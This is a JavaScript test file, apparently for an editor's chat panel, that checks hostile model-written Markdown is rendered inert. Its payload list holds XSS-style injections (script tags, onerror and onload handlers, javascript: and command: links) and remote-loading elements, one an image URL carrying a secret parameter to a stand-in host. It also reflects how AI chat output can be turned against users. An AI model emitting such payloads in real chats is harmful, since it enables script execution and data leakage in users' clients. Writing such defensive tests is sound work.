// Markdown that a model was talked into: scripts, remote images, hostile links. Nothing runs and nothing is loaded.
import assert from "node:assert/strict";
import { Chat } from "../driver/chat.js";
import { says } from "../driver/model.js";

const HOSTILE = [
  "<script>document.title = 'run by a script'</script>",
  "<img src=x onerror=\"document.title = 'run by an image'\">",
  "![picture](https://example.invalid/picture.png?secret=1)",
  "<iframe src='https://example.invalid/frame'></iframe>",
  "<style>@import url('https://example.invalid/style.css');</style>",
  "[a command](command:workbench.action.files.newUntitledFile)",
  "[a script](javascript:document.title='run_by_a_link')",
  "<svg onload=\"fetch('https://example.invalid/svg')\"><image href='https://example.invalid/svg.png'/></svg>",
  "<form action='https://example.invalid/form'><button>Send</button></form>",
  "This is the end.",
].join("\n\n");

export default async function chatHostileMarkdown(scene) {
  const editor = await scene.open();
  const left = [];
  editor.page.on("request", (request) => left.push(request.url()));
  const chat = new Chat(editor);
  await chat.open();
  scene.model.script(says(HOSTILE));
  await chat.send("Show me something");
  await chat.shows("This is the end.");
  await chat.idle();
  await editor.screenshot("chat-hostile");
  for (const link of await chat.frame.getByText(/^a (command|script)$/).all()) {
    await link.click();
  }
  await editor.screenshot("chat-hostile-clicked");
  assert.deepEqual(
    left.filter((url) => url.includes("example.invalid")),
    [],
    "nothing is loaded",
  );
  const title = await chat.frame.locator(":root").evaluate(() => document.title);
  assert.doesNotMatch(title, /run/, "nothing is run");
  const alive = "script, iframe, form, svg image, img[src^='http'], img[onerror], [onload], style";
  assert.equal(await chat.frame.locator("#app").locator(alive).count(), 0, "nothing of it is in the page but text");
  assert.equal(
    await editor.ask((vscode) => vscode.workspace.textDocuments.filter(({ isUntitled }) => isUntitled).length),
    0,
  );
}
